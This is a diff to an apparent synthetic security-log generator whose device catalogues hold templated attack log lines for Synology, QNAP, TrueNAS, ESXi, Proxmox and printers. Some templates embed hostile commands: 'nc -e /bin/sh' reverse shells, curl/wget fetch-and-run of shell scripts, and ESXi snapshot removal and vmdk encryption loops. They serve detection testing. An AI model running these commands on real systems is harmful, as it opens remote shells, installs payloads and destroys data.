@@ -4,22 +4,19 @@ from generator.families.network.product_story import catalogue
 
 catalogue("devices/product-synology", ("|{msg}", "=<14>{time} {host} {msg}", "={plain} {host} {msg}"), r"""
 BF# Connection: User [{adm}] from [{wan}] failed to log in via [<<DSM|SSH|FTP|SMB>>] due to authorization failure.
-BF System: Host [{wan}] was blocked via [<<DSM|SSH|Mail Server|FTP>>].
-BF System: IP address [{wan}] of {host} has been blocked by [SSH] after {n} failed attempts within {few} minutes.
+BF-# System: Host [{wan}] was blocked via [<<DSM|SSH|Mail Server|FTP>>].
+BF- System: IP address [{wan}] of {host} has been blocked by [SSH] after {n} failed attempts within {few} minutes.
 PS# Connection: User [{word}] from [{any}] failed to sign in to [DSM] via [password] due to authorization failure.
 BF System: Account [admin] locked by Account Protection: too many failed sign-in attempts from {many} untrusted clients.
 RW WinFileService Event: rename, Path: /{share}/{file}.docx -> /{share}/{file}.docx.{crypt}, File/Folder: File, Size: 0 Bytes, User: {user}, IP: {lan}
 RW+ WinFileService Event: write, Path: /{share}/<<!!!READ_ME_MEDUSA!!!.txt|HOW_TO_DECRYPT.txt|README_FOR_DECRYPT.txt>>, File/Folder: File, User: {user}, IP: {lan}
-RW Snapshot Replication: Abnormal growth of snapshot of [{share}]: {big} files changed in {n} minutes, entropy of new files high.
-RB System: [{adm}] deleted all snapshots of shared folder [{share}] from {wan}; immutable snapshots none.
+RB System: [{adm}] deleted all snapshots of shared folder [{share}] from {wan}.
 RB Hyper Backup: [{adm}] from {wan} deleted task [NAS to cloud] with all {n} versions.
 PT+ System: User [{word}] was created by [admin] from {wan} and joined group [administrators].
 PT+@T1053.003 System: Task [{word}] (root): curl -k https://{wan}/{word} -o /tmp/.{word}; sh /tmp/.{word} was created by [admin] from {wan}
 DE System: [{adm}] from {wan} disabled <<auto block|firewall|log sending>> and enabled telnet service.
 MW Antivirus: Found infected file: /volume1/{share}/{file}.exe ({mal}), action failed.
 MW Antivirus Essential: {few} threats found [/volume1/homes/{user}/{file}.js: {mal}].
-EX@T1041 FileStation Event: download, Path: /{share}/{file}.zip, Size: {huge}, User: {user}, IP: {wan}, {many} folders packed within {few} minutes
-AT+@T1078,T1133 Connection: User [{user}] from [{wan}] logged in successfully via [DSM] from new country {land}, 2-factor was disabled {few} minutes before.
 LC Log Center: Logs were cleared by [{adm}] from [{wan}].
 """, r"""
 LO Connection: User [{adm}] from [{lan}] logged in successfully via [<<DSM|SSH|CIFS(SMB3)|FTP>>].
@@ -27,6 +24,7 @@ LO Connection: User [{user}] from [{wan}] logged in successfully via [Synology D
 LO Connection: User [{user}] from [{lan}] logged out the server via [CIFS(SMB3)] with totally [{big}B] read and [{big}B] written.
 MP. Connection: User [{user}] from [{lan}] failed to log in via [<<DSM|SMB|AFP>>] due to authorization failure.
 BN System: Host [{lan}] was unblocked by [{adm}].
+BN. System: Host [{wan}] was blocked via [<<DSM|SSH|Mail Server|FTP>>].
 SY System: Volume [1] (Btrfs) is about to run out of space. ({pct}%)
 SY System: Disk {disk} in {host} has {n} bad sectors. Please back up your data.
 SY System: Storage Pool 1 on {host} has entered degraded status [{few}/4].
@@ -60,23 +58,22 @@ SY System: Certificate of [{ext}] will expire in {n} days.
 
 catalogue("devices/product-qnap-truenas", ("|{msg}", "qlogd|{msg}", "={plain},{host},{msg}", "={date} {time} {msg}"), r"""
 BF# qlogd: conn log: Users: {adm}, Source IP: {wan}, Computer name: ---, Connection type: <<HTTP|SSH|SAMBA>>, Accessed resources: ---, Action: Login Fail
-BF event log: Users: System, Source IP: 127.0.0.1, Content: [Security] Access Violation from {wan} with TCP (port=22), {n} failures, blocked forever.
-BF event log: Content: [Security] {many} IP addresses added to block list: too many failed login attempts of user "admin".
+BF- event log: Users: System, Source IP: 127.0.0.1, Content: [Security] Access Violation from {wan} with TCP (port=22), {n} failures, blocked forever.
+BF- event log: Content: [Security] {many} IP addresses added to block list: too many failed login attempts of user "admin".
 RW conn log: Users: {user}, Source IP: {lan}, Connection type: SAMBA, Accessed resources: {share}/{file}.xlsx -> {share}/{file}.xlsx.{crypt}, Action: Rename
 RW+ event log: Users: admin, Content: 7z a -mx=0 -sdel -p{word} /share/{share}/{file}.7z started by web process, <<!!!READ_ME.txt|!README_FOR_DECRYPT.txttt>> written
 RW+ httpd: index page replaced: /home/httpd/cgi-bin/index.cgi "Your files have been locked by DEADBOLT"
 RB event log: Users: admin, Source IP: {wan}, Content: [Storage & Snapshots] Deleted all snapshots of volume DataVol1, snapshot schedule disabled.
 MW event log: Content: [Malware Remover] <<Found and removed vulnerable files or folders|Removed malware>> MR{n}: /share/CACHEDEV1_DATA/.qpkg/.{word}. Restart and change passwords.
 MW event log: Content: [Malware Remover] High-risk malware detected (QSnatch), code MR1902, could not be removed.
-CM top: /share/CACHEDEV1_DATA/.{word}/unity_install.sh: process "[oom_reaper]" uses {pct}% CPU, connects to {wan}:17777
+CM event log: Content: [Malware Remover] Detected cryptocurrency miner "[oom_reaper]" started by /share/CACHEDEV1_DATA/.{word}/unity_install.sh, uses {pct}% CPU
 CI apache: POST /cgi-bin/authLogout.cgi from {wan}: QMULTIREDIRECT cookie with `wget http://{wan2}/{word}.sh`
 PT+ event log: Users: admin, Source IP: {wan}, Content: [Users] Created user "{word}". [Users] Added user "{word}" to group "administrators".
 DE event log: Users: admin, Source IP: {wan}, Content: [QuFirewall] disabled; [Antivirus] disabled; /etc/hosts changed: update.qnap.com 0.0.0.0
-PE middlewared: root shell command session opened by api key '{word}' from {wan}, cron job added: nc -e /bin/sh {wan2} {port}
+PT@T1053.003 middlewared: {adm}@{wan} called cronjob.create user=root command="nc -e /bin/sh {wan2} {port}"
 BF# middlewared: AUTH failure login user {adm} from {any}: invalid username or password
-RB middlewared: {adm}@{wan} called pool.snapshot.delete recursive tank@auto-* ({many} snapshots), replication task deleted
+RB middlewared: {adm}@{wan} called pool.snapshot.delete recursive tank@auto-*
 RW truenas smbd_audit: {user}|{lan}|{share}|rename|ok|{file}.pdf|{file}.pdf.{crypt}
-EX@T1041 smbd_audit: {user}|{lan}|{share}|pread|ok|{many} files, {huge} bytes within {few} minutes, rclone.exe client to {wan}
 SB# sshd: Failed password for admin from {wan} port {port} ssh2
 """, r"""
 LO qlogd: conn log: Users: {user}, Source IP: {lan}, Computer name: {pc}, Connection type: <<HTTP|SAMBA|SSH>>, Accessed resources: Administration, Action: Login OK
@@ -115,8 +112,7 @@ SJ event log: Content: [Recycle Bin] emptied by schedule
 """)
 
 catalogue("devices/product-hypervisors", ("|{msg}", "=<166>{iso} {host} {msg}", "={iso} {host} {msg}"), r"""
-LM+@T1021.004 Hostd: info hostd[{big}] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event {n} : SSH access has been enabled by root from {wan}.
-+ Hostd: info [sub=Vmsvc.vm] Event {n}: {vm} on {host} is powered off by esxcli vm process kill --type=force
+RB@T1490,T1489 shell[{big}]: [root]: esxcli vm process kill --type=force --world-id={big}
 RW shell[{big}]: [root]: for i in $(find /vmfs/volumes/ -name "*.vmdk"); do ./<<encrypt|{word}>> -i $i -ext {crypt}; done
 RW+ vmkernel: cpu{n}: FS3: /vmfs/volumes/{ds}/{vm}/{vm}-flat.vmdk renamed {vm}.vmdk.{crypt}, <<ransom note How To Restore Your Files.txt|README_TO_DECRYPT>> written
 RB shell[{big}]: [root]: vim-cmd vmsvc/getallvms | awk '{print $1}' | xargs -n1 vim-cmd vmsvc/snapshot.removeall
@@ -131,18 +127,15 @@ BF# Hostd: warning hostd[{big}] [sub=Default] Rejected password for user root fr
 BF vobd: [GenericCorrelator] [vob.user.account.locked] Remote access for ESXi local user account 'root' has been locked for 900 seconds after {n} failed login attempts.
 BF# vpxd[{n}]: Event [{id}] [vim.event.BadUsernameSessionEvent] [error] Cannot login {user}@{any}: no permission
 RX+ vsphere-ui: POST /ui/vropspluginui/rest/services/uploadova from {wan} 200: ../../../usr/lib/vmware-vsphere-ui/server/work/{word}.jsp
-RX+ slpd: heap overflow in SLPParseSrvUrl from {wan}, core dumped, shell pid {big} started
-CT+@T1003.003 vpxd[{n}]: Event [{id}] [vim.event.VmClonedEvent] {vm} (domain controller) cloned to {word} by {adm} from {wan}; disk of clone attached to {vm2}
+RX+ slpd: *** Error in `/usr/lib/vmware/bin/slpd': free(): invalid pointer after service request of {wan}, core dumped
 BF# pveproxy[{n}]: authentication failure; rhost={wan} user=root@pam msg=Authentication failure
 BF# pvedaemon[{n}]: authentication failure; rhost={any} user={user}@pve msg=no such user
-RW pvedaemon[{n}]: <root@pam> end task UPID:{host}:{HEX}:qmdestroy:{many}:root@pam: OK; {n} guests destroyed with --purge --destroy-unreferenced-disks from {wan}, {share} backups removed
 RB pvedaemon: proxmox-backup: datastore {ds} removed with all {many} backup groups by root@pam from {wan}
 PT+ pveum: user {word}@pve created, role Administrator on / by API token of {adm} from {wan}
-LM@T1021.006 Hyper-V-VMMS: PowerShell Direct session to '{vm}' opened by unknown {user} from {pc}, scripts executed as SYSTEM
-RB Hyper-V-VMMS: checkpoints of {n} virtual machines deleted, replication removed, VHDX files moved by {user} within one minute
 BF# xapi: [error|{host}|xapi session.login_with_password D:{hex}] pam: Authentication failure root from {wan}
 """, r"""
 AD Hostd: info hostd[{big}] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event {n} : SSH access has been enabled.
+AD Hostd: Event {n}: Account {user} was created on host {host}; Permission ReadOnly granted to {user} by {adm}
 AD Hostd: info Event {n} : The ESXi shell for the host has been disabled
 LO Hostd: info Event {n} : User {adm}@{lan} logged in as VMware-client/6.5.0
 LO Hostd: info Event {n} : User vpxuser@127.0.0.1 logged out (login time: {plain}, number of API invocations: {many}, user agent: VMware-client)
@@ -165,6 +158,8 @@ SY fdm: vSphere HA detected a host failure, restarting {few} virtual machines
 SY vpxd: alarm 'Datastore usage on disk' on {ds} changed from Yellow to Red
 ER vmx: {vm}| E: The virtual disk is either corrupted or not a supported format
 AE shell[{big}]: [root]: esxcli <<storage core device list|network nic list|vm process list|software vib list|system version get>>
+AD shell[{big}]: [root]: vim-cmd vmsvc/<<getallvms|power.shutdown {n}|snapshot.create {n} before-update|get.summary {n}>>
+UP shell[{big}]: [root]: esxcli software vib update -d /vmfs/volumes/{ds}/VMware-ESXi-{ver}-depot.zip
 UP esxupdate: INFO: Finished installing VIB VMware_bootbank_esx-base_{ver}
 LO pvedaemon[{n}]: <root@pam> successful auth for user '{user}@pam'
 MP. pvedaemon[{n}]: authentication failure; rhost=::ffff:{any} user={user}@pam msg=Authentication failure
@@ -186,7 +181,6 @@ AE xenopsd: VM {uuid} shutdown request by guest
 catalogue("devices/product-ups-printers-rooms", ("|{msg}", "={plain} {host} {msg}", "snmptrapd|{msg}"), r"""
 BF# APC NMC: System: Failed login of user '{adm}' by <<web|telnet|SSH>> from {any}. 0x0016
 BF APC NMC: System: Web user '{adm}' locked out after {n} bad logins from {wan}
-DO@T1499 APC NMC: UPS: Turned off output power by command of unknown session {wan}, outlet group 1, no shutdown notice
 PT+ APC NMC: System: Configuration change. Super user account name changed by {wan}; FTP enabled
 PT+@T1542.001 UPS NMC: firmware rpdu2g {ver} with invalid signature uploaded from {wan} by ftp
 BF#@T1110.001,T1602.001 printer {host}: SNMP authentication failure from {any}, community '{word}'
@@ -195,10 +189,10 @@ EX@T1048 printer {host}: scan-to-FTP destination of address book entry '{share}'
 CT@T1552.001 printer {host}: address book export with LDAP and SMB passwords by unauthenticated {any}
 PT@T1542.001 printer {host}: intrusion detected: memory pages of running firmware changed, self-heal reboot
 MW printer {host}: PJL command @PJL FSDOWNLOAD ../../../rw/var/etc/profile.d/{word}.sh received from {any}
-PO printer {host}: {many} connection attempts to ports 9100, 515, 631, 80, 23 from {lan} in {few} seconds, all printers of the floor
+PO printer {host}: {many} connection attempts to ports 9100, 515, 631, 80, 23 from {lan} in {few} seconds
 IX cups-browsed: PPD from {wan}: FoomaticRIPCommandLine "echo {word} > /tmp/{word}; nc {wan} {port}" on new printer
 DE iLO: event log cleared and syslog server removed by {word} from {wan}
-BF iDRAC: SEC0701: The session of {adm} from {wan} blocked: {n} invalid login attempts, login blocked for 300 s
+BF- iDRAC: SEC0701: The session of {adm} from {wan} blocked: {n} invalid login attempts, login blocked for 300 s
 BF# iLO: IML: Login failure from IP {any}, user Administrator
 PT+ iDRAC: USR0030: user {word} with administrator rights created from {wan}; iDRAC virtual media attached
 PT+@T1542.001 iLO: Firmware tampering detected: iLO flash image does not match signature, downgrade to 2.{n}
